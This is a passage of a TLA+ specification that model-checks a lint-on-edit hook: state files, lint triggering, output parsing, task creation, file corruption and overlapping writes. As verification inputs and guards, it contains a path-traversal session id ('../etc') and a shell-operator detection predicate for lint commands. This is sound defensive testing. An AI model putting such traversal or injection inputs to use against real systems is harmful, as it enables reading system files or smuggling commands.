  [stdins |-> {Some(EditEvent(SessionOne, "Edit", ToolInput(FileA)))},
   settings |-> {NoSettings} \cup { ProjectOnly(Config(None, Some(c))) : c \in Commands },
   transcripts |-> {None},
   dirs |-> {NoDir, PkgLint,
             [pkg |-> Some(None), files |-> {"biome.jsonc"}],
             [pkg |-> Some(Some({"test", "lint:check"})), files |-> {"eslint.config.js"}],
             [pkg |-> Some(Some({"eslint", "biome"})), files |-> {}],
             [pkg |-> Some(Some({"biome"})), files |-> {}],
             [pkg |-> None, files |-> {".eslintrc.js", "tsconfig.json"}]},
   procs |-> {ProcOk, ProcFail(<<LineA1>>, <<>>)},
   tasksDirs |-> {None},
   maxNow |-> MaxNow,
   track |-> FALSE,
   overlap |-> FALSE]

(***************************************************************************)
(* SpecEmit: the task emitter.  Lint runs with zero to seven relevant      *)
(* diagnostics, with and without a task list.                              *)
(***************************************************************************)
EmitConfigs ==
  { [Config(None, Some(CmdBunLint)) EXCEPT !.createTasks = c, !.taskListId = l] :
      c \in {None, Some(TRUE), Some(FALSE)},
      l \in {None, Some(<<>>), Some(ListBugfix), Some(ListDev)} }
EmitProcs ==
  {ProcOk,
   [ProcOk EXCEPT !.stdout = JoinLines(<<LineA1, LineA2, LineA3, LineA1, LineA2, LineA3>>)],
   ProcTimeout,
   ProcFail(<<LineC1, LineBanner>>, <<>>),
   ProcFail(<<LineD1, LineC1>>, <<>>),
   ProcFail(<<LineA1, LineA2, LineA3>>, <<LineA1, LineA2>>),
   ProcFail(<<LineA1, LineC1, LineA2, LineBanner, LineA3>>, <<LineA1, LineB1, LineA2, LineA3>>),
   ProcFail(<<LineB1, LineA1, LineA2, LineA3, LineB1, LineA3>>, <<LineA2, LineA1, LineC1>>)}
EmitInputs ==
  [stdins |-> {Some(EditEvent(SessionOne, "Edit", ToolInput(FileA))),
               Some(EditEvent(SessionOne, "Write", ToolInput(FileB)))},
   settings |-> { ProjectOnly(c) : c \in EmitConfigs },
   transcripts |-> {None},
   dirs |-> {NoDir},
   procs |-> EmitProcs,
   tasksDirs |-> {None, Some(<<ListDev, ListBugfix>>), Some(<<SessionOne>>)},
   maxNow |-> MaxNow,
   track |-> FALSE,
   overlap |-> FALSE]

(***************************************************************************)
(* SpecCorrupt: edits of a session whose state file is damaged between the *)
(* invocations.                                                            *)
(***************************************************************************)
\* an empty file
CorruptEmpty == [text |-> <<>>, json |-> "invalid", editCount |-> "absent",
                 editedFiles |-> None, lastLintRun |-> 0]
\* the start of a serialized state: {"editCount": 2, "edi
CorruptTruncated ==
  [text |-> <<"{","\"","e","d","i","t","C","o","u","n","t","\"",":"," ","2",","," ","\"","e","d","i">>,
   json |-> "invalid", editCount |-> "absent", editedFiles |-> None, lastLintRun |-> 0]
\* null
CorruptNull == [text |-> <<"n","u","l","l">>, json |-> "null", editCount |-> "absent",
                editedFiles |-> None, lastLintRun |-> 0]
\* {}
CorruptEmptyObject == [text |-> <<"{","}">>, json |-> "object", editCount |-> "absent",
                       editedFiles |-> None, lastLintRun |-> 0]
\* {"editCount":"two","editedFiles":[],"lastLintRun":0}
CorruptStringCount ==
  [text |-> <<"{","\"","e","d","i","t","C","o","u","n","t","\"",":","\"","t","w","o","\"",",","\"","e","d","i","t","e","d","F","i","l","e","s","\"",":","[","]",",","\"","l","a","s","t","L","i","n","t","R","u","n","\"",":","0","}">>,
   json |-> "object", editCount |-> "string", editedFiles |-> Some(<<>>), lastLintRun |-> 0]
CorruptContents ==
  {CorruptEmpty, CorruptTruncated, CorruptNull, CorruptEmptyObject, CorruptStringCount}
CorruptInputs ==
  [stdins |-> {Some(EditEvent(SessionOne, "Edit", ToolInput(FileA))),
               Some(EditEvent(SessionOne, "Write", ToolInput(FileB))),
               Some(EditEvent(SessionTwo, "NotebookEdit", NotebookInput(FileA)))},
   settings |-> {ProjectOnly(Config(None, Some(CmdBunLint)))},
   transcripts |-> {None},
   dirs |-> {NoDir},
   procs |-> {ProcOk, ProcFail(<<LineA1, LineB1>>, <<>>)},
   tasksDirs |-> {Some(<<ListDev>>)},
   maxNow |-> MaxNow,
   track |-> FALSE,
   overlap |-> FALSE]

(***************************************************************************)
(* SpecParse: the parser.  Lint outputs of zero to MaxLines lines, each    *)
(* drawn from lines of the three dialects and lines of none.               *)
(***************************************************************************)
\* "a:1:2 b/c ERROR x:3:4: error y"
LineBoth == <<"a",":","1",":","2"," ","b","/","c"," ","E","R","R","O","R"," ","x",":","3",":","4",":"," ","e","r","r","o","r"," ","y">>
\* " src/a.ts:1:2: note"
LineSpaced == <<" ","s","r","c","/","a",".","t","s",":","1",":","2",":"," ","n","o","t","e">>
\* "src/a.ts:7:3: Warning Mixed Case [r-1]"
LineUpper == <<"s","r","c","/","a",".","t","s",":","7",":","3",":"," ","W","a","r","n","i","n","g"," ","M","i","x","e","d"," ","C","a","s","e"," ","[","r","-","1","]">>
\* "src/a.ts:10:5: error expected [a] got [b] [no-x]"
LineBrackets == <<"s","r","c","/","a",".","t","s",":","1","0",":","5",":"," ","e","r","r","o","r"," ","e","x","p","e","c","t","e","d"," ","[","a","]"," ","g","o","t"," ","[","b","]"," ","[","n","o","-","x","]">>
\* "\tsrc/a.ts:2:2: an error"
LineTab == <<"\t","s","r","c","/","a",".","t","s",":","2",":","2",":"," ","a","n"," ","e","r","r","o","r">>
\* "src/a.ts:0:0: error x"
LineZero == <<"s","r","c","/","a",".","t","s",":","0",":","0",":"," ","e","r","r","o","r"," ","x">>
ParsePool == <<LineA1, LineA2, LineA3, LineB1, LineBanner, LineBoth, LineSpaced,
               LineUpper, LineBrackets, LineTab, LineZero>>
MaxLines == 2
ParseInputs ==
  [stdins |-> {Some(EditEvent(SessionOne, "Edit", ToolInput(FileA)))},
   settings |-> {ProjectOnly(Config(None, Some(CmdBunLint)))},
   transcripts |-> {None},
   dirs |-> {NoDir},
   procs |-> { ProcFail([i \in DOMAIN pick |-> ParsePool[pick[i]]], <<>>) :
                 pick \in UNION { [1..n -> 1..Len(ParsePool)] : n \in 0..MaxLines } },
   tasksDirs |-> {None},
   maxNow |-> 1,
   track |-> FALSE,
   overlap |-> FALSE]

(***************************************************************************)
(* SpecLoose: edits of one session under settings whose editThreshold is   *)
(* a number or a string that is no number.                                 *)
(***************************************************************************)
\* "high"
TextHigh == <<"h","i","g","h">>
\* the counts a state file is followed to
MaxCount == 9
LooseInputs ==
  [stdins |-> {Some(EditEvent(SessionOne, "Edit", ToolInput(FileA))),
               Some(EditEvent(SessionOne, "Write", ToolInput(FileB)))},
   settings |-> {NoSettings,
                 ProjectOnly(Config(Some(7), Some(CmdBunLint))),
                 ProjectOnly(Config(NotNumeric(TextHigh), Some(CmdBunLint)))},
   transcripts |-> {None},
   dirs |-> {NoDir},
   procs |-> {ProcOk},
   tasksDirs |-> {None},
   maxNow |-> 1,
   track |-> FALSE,
   overlap |-> FALSE]

(***************************************************************************)
(* SpecIds: edits of sessions whose identifiers are any JSON value: with   *)
(* characters that are replaced, longer than the limit, empty, absent, a   *)
(* number.                                                                 *)
(***************************************************************************)
\* "a/b"
IdSlash == <<"a","/","b">>
\* "a-b"
IdDash == <<"a","-","b">>
\* "../etc"
IdDots == <<".",".","/","e","t","c">>
\* SanitizeLimit times "x", and one character more
LongId(c) == [i \in 1..SanitizeLimit |-> "x"] \o <<c>>
SessionIds ==
  {Some(IdSlash), Some(IdDash), Some(IdDots), Some(LongId("a")), Some(LongId("b")),
   Some(<<>>), None, NumberId(42)}
IdInputs ==
  [stdins |-> { Some(Event(id, Some("Edit"), Some(CwdRepo), Some(ToolInput(FileA)), None)) :
                  id \in SessionIds },
   settings |-> {ProjectOnly(Config(None, Some(CmdBunLint)))},
   transcripts |-> {None},
   dirs |-> {NoDir},
   procs |-> {ProcOk},
   tasksDirs |-> {None},
   maxNow |-> 1,
   track |-> FALSE,
   overlap |-> FALSE]

(***************************************************************************)
(* SpecRace: edits of one session by invocations that overlap.             *)
(***************************************************************************)
RaceInputs ==
  [stdins |-> {Some(EditEvent(SessionOne, "Edit", ToolInput(FileA))),
               Some(EditEvent(SessionOne, "Write", ToolInput(FileB)))},
   settings |-> {ProjectOnly(Config(None, Some(CmdBunLint)))},
   transcripts |-> {None},
   dirs |-> {NoDir},
   procs |-> {ProcOk},
   tasksDirs |-> {None},
   maxNow |-> 1,
   track |-> TRUE,
   overlap |-> TRUE]

(***************************************************************************)
(* Tables of the string functions over the inputs above, computed once: a  *)
(* table is the set of the pairs <<x, f(x)>>.  Memo(table, x, v) is v: the  *)
(* table is consulted where x is a known input.                            *)
(***************************************************************************)
AllInputs == {TriggerInputs, SeqInputs, GateInputs, EmitInputs, CorruptInputs}
Memo(table, x, v) ==
  IF \E p \in table : p[1] = x THEN (CHOOSE p \in table : p[1] = x)[2] ELSE v

KnownEvents == { Get(s) : s \in { x \in UNION { D.stdins : D \in AllInputs } : IsSome(x) } }
KnownCwds == { Get(ev.cwd) : ev \in { e \in KnownEvents : IsSome(e.cwd) } }
KnownOutputs == { runLint(p).output : p \in UNION { D.procs : D \in AllInputs } }
KnownTasksDirs == UNION { D.tasksDirs : D \in AllInputs }

RepoPatterns == { <<cwd, isValidRepoPattern(cwd)>> : cwd \in KnownCwds }
ParsedOutputs == { <<output, parseLintOutput(output)>> : output \in KnownOutputs }
KnownCommands ==
  { Get(c.lintCommand) :
      c \in { x \in { getConfig(st.project, st.global) :
                        st \in UNION { D.settings : D \in AllInputs } } :
                 IsSome(x.lintCommand) } }
  \cup Range(ALLOWED_LINT_COMMANDS)
ValidLintCommands == { <<cmd, isValidLintCommand(cmd)>> : cmd \in KnownCommands }
SanitizedIds == { <<id, sanitizeId(id)>> : id \in { ev.session_id : ev \in KnownEvents } }
ProjectTaskLists ==
  { <<p, getProjectTaskList(p[1], p[2])>> : p \in KnownCwds \X KnownTasksDirs }

(***************************************************************************)
(* State.  stateFiles is the state directory: a function from the          *)
(* sanitized session id of a file checklint-<id>.json to the SessionState  *)
(* it holds.  The other variables are what the last invocation of the hook *)
(* process left behind: its standard output, exit code, log (standard      *)
(* error), the task files it wrote and the commands it executed.  last and *)
(* track are history variables: the values the last invocation computed,   *)
(* and per state file the count of events processed under one threshold.   *)
(***************************************************************************)
\* stateFiles holds the state files whose content is a serialized
\* SessionState, damaged the state files with any other content; inflight
\* holds the invocations that have not yet written the state they computed
VARIABLES stateFiles, stdout, exitCode, stderr, created, executed, last, track,
          damaged, inflight
vars == <<stateFiles, stdout, exitCode, stderr, created, executed, last, track,
          damaged, inflight>>

NoFiles == [k \in {} |-> None]
FreshState == [editCount |-> 0, editedFiles |-> <<>>, lastLintRun |-> 0]
\* the state file of the (sanitized) session id, a fresh state when absent
getSessionState(key) ==
  IF key \in DOMAIN stateFiles THEN stateFiles[key] ELSE FreshState
\* writeFileSync(stateFile, JSON.stringify(state))
saveSessionState(files, key, state) ==
  [k \in (DOMAIN files) \cup {key} |-> IF k = key THEN state ELSE files[k]]
\* the files without the one of key
removeFile(files, key) == [k \in (DOMAIN files) \ {key} |-> files[k]]

\* String(n) of a natural number
DigitChars == <<"0","1","2","3","4","5","6","7","8","9">>
RECURSIVE toString(_)
toString(n) ==
  IF n < 10 THEN <<DigitChars[n + 1]>>
  ELSE toString(n \div 10) \o <<DigitChars[(n % 10) + 1]>>
\* JSON.stringify(files, null, 2) at depth one, of paths that need no escape
RECURSIVE stringifyItems(_)
stringifyItems(files) ==
  IF Len(files) = 0 THEN <<>>
  ELSE <<" "," "," "," ","\"">> \o files[1] \o <<"\"">>
       \o (IF Len(files) = 1 THEN <<"\n">>
           ELSE <<",", "\n">> \o stringifyItems(Tail(files)))
stringifyFiles(files) ==
  IF Len(files) = 0 THEN <<"[", "]">>
  ELSE <<"[", "\n">> \o stringifyItems(files) \o <<" ", " ", "]">>
\* line 160: JSON.stringify(state, null, 2), count being the text of editCount
stringify(count, files, lastLintRun) ==
  <<"{","\n"," "," ","\"","e","d","i","t","C","o","u","n","t","\"",":"," ">> \o count
  \o <<",","\n"," "," ","\"","e","d","i","t","e","d","F","i","l","e","s","\"",":"," ">> \o stringifyFiles(files)
  \o <<",","\n"," "," ","\"","l","a","s","t","L","i","n","t","R","u","n","\"",":"," ">> \o toString(lastLintRun)
  \o <<"\n", "}">>
stringifyState(state) ==
  stringify(toString(state.editCount), state.editedFiles, state.lastLintRun)

\* Content of a state file that is no serialized SessionState: its text, and
\* what JSON.parse makes of it: json is "invalid" (a SyntaxError), "null" or
\* "object"; of an object, editCount is "absent", "string" or "null",
\* editedFiles is a list or absent, lastLintRun a number.
Damaged(text, json, editCount, editedFiles, lastLintRun) ==
  [text |-> text, json |-> json, editCount |-> editCount,
   editedFiles |-> editedFiles, lastLintRun |-> lastLintRun]
\* JSON.stringify of a state whose editCount is NaN writes null
NaNState(files, lastLintRun) ==
  Damaged(stringify(<<"n","u","l","l">>, files, lastLintRun), "object", "null",
          Some(files), lastLintRun)
\* line 412: the value JSON.parse returned, when it is no SessionState
otherJson(files, key) ==
  IF key \in DOMAIN files /\ files[key].json # "invalid" THEN Some(files[key])
  ELSE None
\* lines 413-415: TypeError at state.editCount++ on null, or at
\* state.editedFiles.includes on an object without editedFiles
throwsOnState(other) == other.json = "null" \/ ~IsSome(other.editedFiles)
\* line 413: undefined++ and "two"++ are NaN
countIsNaN(other) == other.editCount \in {"absent", "string"}
\* line 413: null++ is 1: the object counts from 0
countsFromNull(other) ==
  [editCount |-> 0, editedFiles |-> Get(other.editedFiles),
   lastLintRun |-> other.lastLintRun]

\* the number of events of one state file that track follows
MaxEvents == 14
Untracked == [n |-> 0, T |-> 0, ok |-> FALSE, fired |-> 0]
trackEvent(tr, key, T) ==
  LET old == IF key \in DOMAIN tr THEN tr[key]
             ELSE [n |-> 0, T |-> T, ok |-> TRUE, fired |-> 0]
      new == IF old.ok /\ old.T = T /\ old.n < MaxEvents
             THEN [old EXCEPT !.n = @ + 1]
             ELSE Untracked
  IN  [k \in (DOMAIN tr) \cup {key} |-> IF k = key THEN new ELSE tr[k]]
\* one more event of key reached the threshold
trackFire(tr, key) ==
  IF key \in DOMAIN tr /\ tr[key].ok THEN [tr EXCEPT ![key].fired = @ + 1] ELSE tr

\* an invocation before it has done anything
Started(stdin) ==
  [path |-> "start", stdin |-> stdin, config |-> None, sessionName |-> None,
   key |-> None, count |-> 0, threshold |-> 0, triggered |-> FALSE,
   lintCommand |-> None, accepted |-> FALSE, lint |-> None,
   relevant |-> <<>>, taskListId |-> None,
   files |-> stateFiles, track |-> track,
   stdout |-> <<>>, exitCode |-> 1, stderr |-> <<>>, created |-> <<>>,
   executed |-> <<>>, damaged |-> damaged, corrupted |-> None, errors |-> <<>>,
   inflight |-> inflight]
\* approve(): print the decision and exit with code 0
approve(o, path) ==
  [o EXCEPT !.path = path, !.stdout = Append(@, "approve"), !.exitCode = 0]
\* an uncaught TypeError: nothing is printed, the exit code is 1
throws(o, path) == [o EXCEPT !.path = path]

Exit(o) ==
  /\ stateFiles' = o.files
  /\ stdout' = o.stdout
  /\ exitCode' = o.exitCode
  /\ stderr' = o.stderr
  /\ created' = o.created
  /\ executed' = o.executed
  /\ track' = o.track
  /\ damaged' = o.damaged
  /\ inflight' = o.inflight
  /\ last' = [path |-> o.path, stdin |-> o.stdin, config |-> o.config,
              sessionName |-> o.sessionName, key |-> o.key, count |-> o.count,
              threshold |-> o.threshold, triggered |-> o.triggered,
              lintCommand |-> o.lintCommand, accepted |-> o.accepted,
              lint |-> o.lint, relevant |-> o.relevant,
              taskListId |-> o.taskListId, corrupted |-> o.corrupted,
              errors |-> o.errors]

\* logSummary without the overflow line: what C10 must tell from logSummary
logSummary_NoOverflow(report, relevant) == <<[msg |-> "created", n |-> Len(report)]>>
\* lines 449-456: the summary on the log channel (console.error)
logSummary(report, relevant) ==
  <<[msg |-> "created", n |-> Len(report)]>>
  \o (IF Len(relevant) > TaskLimit
      THEN <<[msg |-> "more", n |-> Len(relevant) - TaskLimit]>>
      ELSE <<>>)

\* emitTasks without the test of createTasks: what C23 must tell from emitTasks
emitTasks_IgnoreSwitch(o, config, cwd, relevant, tasksDir) ==
  IF Len(relevant) > 0
  THEN LET taskListId == IF Truthy(config.taskListId) THEN config.taskListId
                         ELSE Memo(ProjectTaskLists, <<cwd, tasksDir>>,
                                   getProjectTaskList(cwd, tasksDir))
           report     == errorsToReport(relevant)
       IN  IF Truthy(taskListId)
           THEN [o EXCEPT
                   !.relevant = relevant,
                   !.taskListId = taskListId,
                   !.created = [i \in 1..Len(report) |->
                                  createTask(Get(taskListId), report[i])],
                   !.stderr = logSummary(report, relevant)]
           ELSE [o EXCEPT !.relevant = relevant, !.taskListId = taskListId]
  ELSE [o EXCEPT !.relevant = relevant]
\* lines 431-457: the tasks and the log of a failed lint run, relevant being
\* the diagnostics of the edited files
emitTasks(o, config, cwd, relevant, tasksDir) ==
  IF config.createTasks # Some(FALSE) /\ Len(relevant) > 0
  THEN LET taskListId == IF Truthy(config.taskListId) THEN config.taskListId
                         ELSE Memo(ProjectTaskLists, <<cwd, tasksDir>>,
                                   getProjectTaskList(cwd, tasksDir))
           report     == errorsToReport(relevant)
       IN  IF Truthy(taskListId)
           THEN [o EXCEPT
                   !.relevant = relevant,
                   !.taskListId = taskListId,
                   !.created = [i \in 1..Len(report) |->
                                  createTask(Get(taskListId), report[i])],
                   !.stderr = logSummary(report, relevant)]
           ELSE [o EXCEPT !.relevant = relevant, !.taskListId = taskListId]
  ELSE [o EXCEPT !.relevant = relevant]

\* parses without the test of success: what C26 must tell from parses
parses_AnyExit(accepted, lint) == accepted
\* line 430: the output of a lint run is parsed when the run has failed
parses(accepted, lint) == accepted /\ ~lint.success

\* recordEdit without the test of line 415: what C21 must tell from recordEdit
recordEdit_AlwaysPush(state, filePath) ==
  [state EXCEPT !.editCount = @ + 1, !.editedFiles = Append(@, filePath)]
\* lines 412-417: state.editCount++, and the file joins editedFiles once
recordEdit(state, filePath) ==
  [state EXCEPT !.editCount = @ + 1,
                !.editedFiles = IF InSeq(filePath, @) THEN @ ELSE Append(@, filePath)]
\* afterLint without the reset of the counter: what C5 must tell from afterLint
afterLint_NoReset(state, now) == [state EXCEPT !.lastLintRun = now]
\* lines 461-463: what the trigger resets
afterLint(state, now) == [state EXCEPT !.editCount = 0, !.lastLintRun = now]
\* accepts without the gatekeeper: what C7 must tell from accepts
accepts_Any(lintCommand) == Truthy(lintCommand)
\* line 427: lintCommand && isValidLintCommand(lintCommand)
accepts(lintCommand) ==
  /\ Truthy(lintCommand)
  /\ Memo(ValidLintCommands, Get(lintCommand), isValidLintCommand(Get(lintCommand)))

\* An invocation that has computed its state and not yet written it: the text
\* of line 160 (editCount NaN is written as null), the process, and whether
\* it has opened the file
Pending(pid, key, state, nan) ==
  [pid |-> pid, key |-> key, state |-> state, nan |-> nan, opened |-> FALSE,
   text |-> IF nan THEN NaNState(state.editedFiles, state.lastLintRun).text
            ELSE stringifyState(state)]
\* the number of invocations that overlap
MaxOverlap == 2
FreePid == CHOOSE i \in 1..MaxOverlap : \A p \in inflight : p.pid # i
\* the text of the state file of key, empty when there is none
fileText(files, dmg, key) ==
  IF key \in DOMAIN files THEN stringifyState(files[key])
  ELSE IF key \in DOMAIN dmg THEN dmg[key].text
  ELSE <<>>
\* an empty file
EmptyFile == Damaged(<<>>, "invalid", "absent", None, 0)
\* writeFileSync, first half: open with flag w truncates the file
truncateFile(files, dmg, key) ==
  [files |-> removeFile(files, key), damaged |-> saveSessionState(dmg, key, EmptyFile)]
\* writeFileSync, second half: the text lands at offset 0 of what the file
\* holds by now; what another process wrote beyond its length stays
writeText(files, dmg, p) ==
  LET old == fileText(files, dmg, p.key)
  IN  IF Len(old) > Len(p.text)
      THEN [files |-> removeFile(files, p.key),
            damaged |-> saveSessionState(dmg, p.key,
                          Damaged(p.text \o SubSeq(old, Len(p.text) + 1, Len(old)),
                                  "invalid", "absent", None, 0))]
      ELSE IF p.nan
      THEN [files |-> removeFile(files, p.key),
            damaged |-> saveSessionState(dmg, p.key,
                          NaNState(p.state.editedFiles, p.state.lastLintRun))]
      ELSE [files |-> saveSessionState(files, p.key, p.state),
            damaged |-> removeFile(dmg, p.key)]
\* lines 466-467: saveSessionState and approve.  Where invocations overlap
\* (D.overlap) the write is left to the steps openStateFile and
\* writeStateFile; otherwise no other process comes between its two halves.
finish(D, o, key, state, nan, path) ==
  IF D.overlap
  THEN Exit([o EXCEPT !.path = path,
                      !.inflight = @ \cup {Pending(FreePid, key, state, nan)}])
  ELSE Exit(approve([o EXCEPT
                       !.files = IF nan THEN removeFile(@, key)
                                 ELSE saveSessionState(@, key, state),
                       !.damaged = IF nan
                                   THEN saveSessionState(@, key,
                                          NaNState(state.editedFiles, state.lastLintRun))
                                   ELSE removeFile(@, key)],
                    path))

\* lines 411-467: count the edit, run lint at the threshold, save, approve
countEdit(D, o0, ev, config, filePath) ==
  \E key \in {Memo(SanitizedIds, ev.session_id, sanitizeId(ev.session_id))} :
  \E other \in {otherJson(damaged, key)} :
  \E ok \in {[o0 EXCEPT !.key = Some(key),
                        !.corrupted = IF key \in DOMAIN damaged THEN Some(damaged[key])
                                      ELSE None]} :
  IF IsSome(other) /\ throwsOnState(Get(other)) THEN Exit(throws(ok, "throws-state"))
  ELSE IF IsSome(other) /\ countIsNaN(Get(other))
  THEN \E files \in {recordEdit(countsFromNull(Get(other)), filePath).editedFiles} :
       finish(D, ok, key, [countsFromNull(Get(other)) EXCEPT !.editedFiles = files],
              TRUE, "counted-nan")
  ELSE
  \E state \in {recordEdit(IF IsSome(other) THEN countsFromNull(Get(other))
                            ELSE getSessionState(key), filePath)} :
  \E T \in {IF thresholdIsNaN(config) THEN 0 ELSE threshold(config)} :
  \E o1 \in {[ok EXCEPT !.count = state.editCount, !.threshold = T,
                        !.track = IF D.track THEN trackEvent(track, key, T) ELSE track]} :
  IF reaches(config, state.editCount, T)
  THEN \E dir \in (IF Truthy(config.lintCommand) THEN {NoDir} ELSE D.dirs) :
       \E lintCommand \in {IF Truthy(config.lintCommand) THEN config.lintCommand
                           ELSE detectLintCommand(dir)} :
       \E accepted \in {accepts(lintCommand)} :
       \E proc \in (IF accepted THEN D.procs ELSE {NoProc}) :
       \E tasksDir \in (IF accepted /\ proc.exit # "ok" /\ ~Truthy(config.taskListId)
                        THEN D.tasksDirs ELSE {None}) :
       \E now \in 1..D.maxNow :
       \E lint \in {runLint(proc)} :
       \E o2 \in {[o1 EXCEPT !.triggered = TRUE, !.lintCommand = lintCommand,
                              !.track = trackFire(@, key)]} :
       \E o3 \in {IF accepted
                  THEN [o2 EXCEPT !.accepted = TRUE, !.executed = <<Get(lintCommand)>>,
                                  !.lint = Some(lint)]
                  ELSE o2} :
       \E errors \in {IF parses(accepted, lint)
                      THEN Memo(ParsedOutputs, lint.output, parseLintOutput(lint.output))
                      ELSE <<>>} :
       \E o4 \in {IF parses(accepted, lint)
                  THEN emitTasks([o3 EXCEPT !.errors = errors], config, Get(ev.cwd),
                                 relevantErrors(errors, state.editedFiles), tasksDir)
                  ELSE o3} :
         finish(D, o4, key, afterLint(state, now), FALSE, "triggered")
  ELSE finish(D, o1, key, state, FALSE, "counted")

\* run(): one invocation of the hook process.  D holds the sets the inputs
\* are drawn from: the text on standard input, the two settings files, the
\* transcript, the project directory, the lint process, the tasks directory
\* and the clock.
run(D) ==
  \E stdin \in D.stdins :
  \E o \in {Started(stdin)} :
    IF ~IsSome(stdin) THEN Exit(approve(o, "no-input"))
    ELSE \E ev \in {Get(stdin)} :
    IF ~(IsSome(ev.tool_name) /\ InSeq(Get(ev.tool_name), EDIT_TOOLS))
    THEN Exit(approve(o, "not-edit"))
    ELSE IF ~IsSome(ev.cwd) THEN Exit(throws(o, "throws-cwd"))
    ELSE IF ~Memo(RepoPatterns, Get(ev.cwd), isValidRepoPattern(Get(ev.cwd)))
    THEN Exit(approve(o, "repo-pattern"))
    ELSE \E settings \in D.settings :
         \E config \in {getConfig(settings.project, settings.global)} :
         \E oc \in {[o EXCEPT !.config = Some(config)]} :
    IF config.enabled = Some(FALSE) THEN Exit(approve(oc, "disabled"))
    ELSE \E transcript \in (IF Truthy(ev.transcript_path) THEN D.transcripts ELSE {None}) :
         \E sessionName \in {IF Truthy(ev.transcript_path) THEN getSessionName(transcript)
                             ELSE None} :
         \E nameToCheck \in {IF Truthy(sessionName) THEN Get(sessionName)
                             ELSE IF Truthy(config.taskListId) THEN Get(config.taskListId)
                             ELSE <<>>} :
         \E keywords \in {IF IsSome(config.keywords) THEN Get(config.keywords)
                          ELSE <<S_dev>>} :
         \E on \in {[oc EXCEPT !.sessionName = sessionName]} :
    IF Len(keywords) > 0 /\ nameToCheck # <<>> /\ ~matchesKeyword(keywords, nameToCheck)
    THEN Exit(approve(on, "keywords"))
    ELSE IF ~IsSome(ev.tool_input) THEN Exit(throws(on, "throws-tool-input"))
    ELSE \E filePath \in {editedPath(Get(ev.tool_input))} :
    IF ~Truthy(filePath) THEN Exit(approve(on, "no-file-path"))
    ELSE countEdit(D, on, ev, config, Get(filePath))

\* what last holds when the last step was no invocation
Idle(path) ==
  [path |-> path, stdin |-> None, config |-> None, sessionName |-> None,
   key |-> None, count |-> 0, threshold |-> 0, triggered |-> FALSE,
   lintCommand |-> None, accepted |-> FALSE, lint |-> None,
   relevant |-> <<>>, taskListId |-> None, corrupted |-> None, errors |-> <<>>]

Init ==
  /\ stateFiles = NoFiles
  /\ track = NoFiles
  /\ stdout = <<>>
  /\ exitCode = 0
  /\ stderr = <<>>
  /\ created = <<>>
  /\ executed = <<>>
  /\ last = Idle("init")
  /\ damaged = NoFiles
  /\ inflight = {}

(***************************************************************************)
(* Specifications.                                                         *)
(***************************************************************************)
Next == run(TriggerInputs)
Spec == Init /\ [][Next]_vars

NextSeq == run(SeqInputs)
SpecSeq == Init /\ [][NextSeq]_vars

NextGate == run(GateInputs)
SpecGate == Init /\ [][NextGate]_vars

NextEmit == run(EmitInputs)
SpecEmit == Init /\ [][NextEmit]_vars

\* the state file of key gets content that is no serialized SessionState
\* (a crash in the middle of a write, a full disk, another program)
corruptFile(key, content) ==
  /\ damaged' = saveSessionState(damaged, key, content)
  /\ stateFiles' = removeFile(stateFiles, key)
  /\ last' = Idle("file-damaged")
  /\ UNCHANGED <<stdout, exitCode, stderr, created, executed, track, inflight>>

\* line 160, first half, of invocation p
openStateFile(p) ==
  /\ ~p.opened
  /\ \E r \in {truncateFile(stateFiles, damaged, p.key)} :
       /\ stateFiles' = r.files
       /\ damaged' = r.damaged
  /\ inflight' = (inflight \ {p}) \cup {[p EXCEPT !.opened = TRUE]}
  /\ last' = Idle("opened")
  /\ UNCHANGED <<stdout, exitCode, stderr, created, executed, track>>
\* line 160, second half, and line 467 of invocation p
writeStateFile(p) ==
  /\ p.opened
  /\ \E r \in {writeText(stateFiles, damaged, p)} :
       /\ stateFiles' = r.files
       /\ damaged' = r.damaged
  /\ inflight' = inflight \ {p}
  /\ last' = [Idle("written") EXCEPT !.key = Some(p.key)]
  /\ stdout' = <<"approve">>
  /\ exitCode' = 0
  /\ UNCHANGED <<stderr, created, executed, track>>
\* the number of events of the session that the overlapping invocations take
MaxRaceEvents == 5
beginRun ==
  /\ Cardinality(inflight) < MaxOverlap
  /\ \A k \in DOMAIN track : track[k].n < MaxRaceEvents
  /\ run(RaceInputs)
NextRace ==
  \/ beginRun
  \/ \E p \in inflight : openStateFile(p)
  \/ \E p \in inflight : writeStateFile(p)
SpecRace == Init /\ [][NextRace]_vars

\* edits as long as no state file holds a count of MaxCount
looseRun ==
  /\ \A k \in DOMAIN stateFiles : stateFiles[k].editCount < MaxCount
  /\ run(LooseInputs)
NextLoose == looseRun
SpecLoose == Init /\ [][NextLoose]_vars

NextIds == run(IdInputs)
SpecIds == Init /\ [][NextIds]_vars

NextParse == run(ParseInputs)
SpecParse == Init /\ [][NextParse]_vars

NextCorrupt ==
  \/ run(CorruptInputs)
  \/ \E content \in CorruptContents : corruptFile(sanitizeId(Some(SessionOne)), content)
SpecCorrupt == Init /\ [][NextCorrupt]_vars

(***************************************************************************)
(* Properties.  After an invocation, last holds what it computed and the   *)
(* other variables what it left behind.                                    *)
(***************************************************************************)
\* the invocation passed every guard: the edit was counted
Counted == last.path \in {"counted", "triggered"}
\* the state file the last invocation wrote
Persisted == stateFiles[Get(last.key)]
\* the edit-class kinds, as the specification lists them
EditClassKinds == {"Edit", "Write", "NotebookEdit"}
\* a shell control operator (; & | or the opening of a substitution) occurs
\* in cmd
HasShellOperator(cmd) ==
  \E k \in 1..Len(cmd) :
    \/ cmd[k] \in {";", "&", "|"}
    \/ cmd[k] = "$" /\ k < Len(cmd) /\ cmd[k + 1] = "("
\* cmd is an entry of the allowlist, or an entry, one space, and more
OnAllowlist(cmd) ==
  \E i \in 1..Len(ALLOWED_LINT_COMMANDS) :
    LET entry == ALLOWED_LINT_COMMANDS[i]
    IN  \/ cmd = entry
        \/ /\ Len(cmd) > Len(entry)
           /\ SubSeq(cmd, 1, Len(entry)) = entry
           /\ cmd[Len(entry) + 1] = " "
\* the effective threshold of a configured editThreshold, case by case
Clamp(configured) ==
  IF ~IsSome(configured) THEN 3
  ELSE IF Get(configured) = 0 THEN 3
  ELSE IF Get(configured) < 3 THEN 3
  ELSE IF Get(configured) > 7 THEN 7
  ELSE Get(configured)

\* C1: in every invocation in which the trigger condition holds, the state
\* persisted at its end has editCount = 0 and editedFiles empty.  The code
\* resets editCount and stamps lastLintRun only: this is violated.
C1_TriggerResetsCountAndFiles ==
  last.path = "triggered" =>
    /\ Persisted.editCount = 0
    /\ Persisted.editedFiles = <<>>
\* C1: a trigger after which the counter is 0 and the edited files remain
C1_FilesSurviveTrigger ==
  /\ last.path = "triggered"
